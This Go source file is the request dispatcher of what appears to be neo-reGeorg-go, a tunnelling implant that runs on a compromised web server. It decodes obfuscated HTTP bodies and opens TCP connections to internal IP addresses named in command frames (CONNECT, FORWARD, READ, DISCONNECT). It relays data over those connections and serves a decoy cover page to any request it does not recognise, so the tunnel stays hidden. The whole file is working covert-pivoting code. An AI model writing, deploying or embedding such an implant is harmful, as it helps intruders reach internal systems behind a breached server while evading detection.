// Package dispatch implements the per-HTTP-request pipeline: decode the
// obfuscated body, parse the command frame, invoke the session registry
// (and through it a Session), and encode the reply. A request that does
// not decode as a recognized command gets the HELLO cover page instead of
// an encoded reply.
package dispatch

import (
	"fmt"
	"net"
	"strconv"
	"strings"
	"time"

	"github.com/google/uuid"

	"github.com/dianwoshishi/neo-reGeorg-go/internal/codec"
	"github.com/dianwoshishi/neo-reGeorg-go/internal/metrics"
	"github.com/dianwoshishi/neo-reGeorg-go/internal/registry"
	"github.com/dianwoshishi/neo-reGeorg-go/internal/relayerr"
	"github.com/dianwoshishi/neo-reGeorg-go/internal/session"
)

const connectTimeout = 3000 * time.Millisecond

const (
	cmdConnect    = "CONNECT"
	cmdForward    = "FORWARD"
	cmdRead       = "READ"
	cmdDisconnect = "DISCONNECT"
)

// Dispatcher ties a Codec and a Registry together to answer one HTTP
// request body at a time. It never retains per-request state between
// invocations; the only state it touches lives in the registry and,
// transitively, in Sessions.
type Dispatcher struct {
	codec    *codec.Codec
	registry *registry.Registry
	metrics  *metrics.Metrics
	dial     func(network, address string, timeout time.Duration) (net.Conn, error)
}

// New builds a Dispatcher over codec c and registry reg, recording
// activity on m.
func New(c *codec.Codec, reg *registry.Registry, m *metrics.Metrics) *Dispatcher {
	return &Dispatcher{
		codec:    c,
		registry: reg,
		metrics:  m,
		dial:     net.DialTimeout,
	}
}

// Handle decodes body and returns the response body to send back with
// HTTP status 200. A malformed or unrecognized request yields the decoded
// HELLO cover page.
func (d *Dispatcher) Handle(body []byte) []byte {
	if len(body) == 0 {
		return d.codec.Hello()
	}

	decoded, err := d.codec.Base64Decode(body)
	if err != nil || len(decoded) == 0 {
		return d.codec.Hello()
	}

	info := d.codec.TLVDecode(decoded)

	cmd := fieldString(info, codec.FieldCmd)
	mark := fieldString(info, codec.FieldMark)

	reply := make(codec.Frame)

	switch cmd {
	case cmdConnect:
		d.handleConnect(info, mark, reply)
	case cmdForward:
		d.handleForward(info, mark, reply)
	case cmdRead:
		d.handleRead(mark, reply)
	case cmdDisconnect:
		d.handleDisconnect(mark, reply)
	default:
		return d.codec.Hello()
	}

	encoded := d.codec.TLVEncode(reply)
	return d.codec.Base64Encode(encoded)
}

func fieldString(info codec.Frame, tag codec.Tag) string {
	v, ok := info[tag]
	if !ok {
		return ""
	}
	return string(v)
}

func setOK(reply codec.Frame) {
	reply[codec.FieldStatus] = []byte("OK")
}

func setFail(reply codec.Frame, msg string) {
	reply[codec.FieldStatus] = []byte("FAIL")
	reply[codec.FieldError] = []byte(msg)
}

// handleConnect dials the ip:port named by the frame and, on success,
// installs a new Session under mark. A mark that the client leaves empty
// would silently collide with every other anonymous CONNECT, so we mint a
// fresh identifier instead of keying the registry on "".
func (d *Dispatcher) handleConnect(info codec.Frame, mark string, reply codec.Frame) {
	markGenerated := mark == ""
	if markGenerated {
		mark = uuid.NewString()
	}

	ip := fieldString(info, codec.FieldIP)
	port := fieldString(info, codec.FieldPort)

	addr, err := parseNumericAddr(ip, port)
	if err != nil {
		setFail(reply, "Invalid address: "+err.Error())
		d.metrics.ConnectFailures.Inc()
		return
	}

	conn, err := d.dial("tcp", addr.String(), connectTimeout)
	if err != nil {
		setFail(reply, err.Error())
		d.metrics.ConnectFailures.Inc()
		return
	}

	sess := session.New(conn)
	d.registry.Insert(mark, sess)
	d.metrics.SessionsOpened.Inc()
	d.metrics.SessionsActive.Set(float64(d.registry.Len()))
	if markGenerated {
		reply[codec.FieldMark] = []byte(mark)
	}
	setOK(reply)
}

// parseNumericAddr requires a numeric IPv4/IPv6 host literal and a numeric
// port, rejecting hostnames outright rather than letting a CONNECT trigger
// a DNS lookup the spec never calls for. IPv6 literals may arrive bracketed
// ("[::1]") or bare ("::1"); brackets are stripped before ParseIP, which
// rejects them.
func parseNumericAddr(host, port string) (*net.TCPAddr, error) {
	host = strings.TrimSuffix(strings.TrimPrefix(host, "["), "]")

	ip := net.ParseIP(host)
	if ip == nil {
		return nil, fmt.Errorf("host %q is not an IP literal", host)
	}
	p, err := strconv.Atoi(port)
	if err != nil || p < 0 || p > 65535 {
		return nil, fmt.Errorf("port %q is not a valid port number", port)
	}
	return &net.TCPAddr{IP: ip, Port: p}, nil
}

func (d *Dispatcher) handleForward(info codec.Frame, mark string, reply codec.Frame) {
	sess := d.registry.Get(mark)
	if sess == nil {
		setFail(reply, relayerr.ErrSessionNotFound.Error())
		return
	}
	data, ok := info[codec.FieldData]
	if !ok {
		setFail(reply, "No data provided")
		return
	}
	if err := sess.Write(data); err != nil {
		setFail(reply, err.Error())
		return
	}
	d.metrics.BytesForwarded.Add(float64(len(data)))
	setOK(reply)
}

// handleRead checks IsClosed before reading: a session already closed at
// entry fails outright, but a close discovered during the read itself
// still reports OK with no Data field set. This asymmetry is preserved as
// specified.
func (d *Dispatcher) handleRead(mark string, reply codec.Frame) {
	sess := d.registry.Get(mark)
	if sess == nil {
		setFail(reply, relayerr.ErrSessionNotFound.Error())
		return
	}
	if sess.IsClosed() {
		setFail(reply, relayerr.ErrSessionClosed.Error())
		return
	}

	setOK(reply)
	data, err := sess.Read()
	if err != nil {
		// The status stays OK; Data is simply left unset.
		return
	}
	reply[codec.FieldData] = data
	d.metrics.BytesRead.Add(float64(len(data)))
}

func (d *Dispatcher) handleDisconnect(mark string, reply codec.Frame) {
	sess := d.registry.Remove(mark)
	if sess != nil {
		sess.Close()
		d.metrics.SessionsClosed.Inc()
		d.metrics.SessionsActive.Set(float64(d.registry.Len()))
	}
	setOK(reply)
}
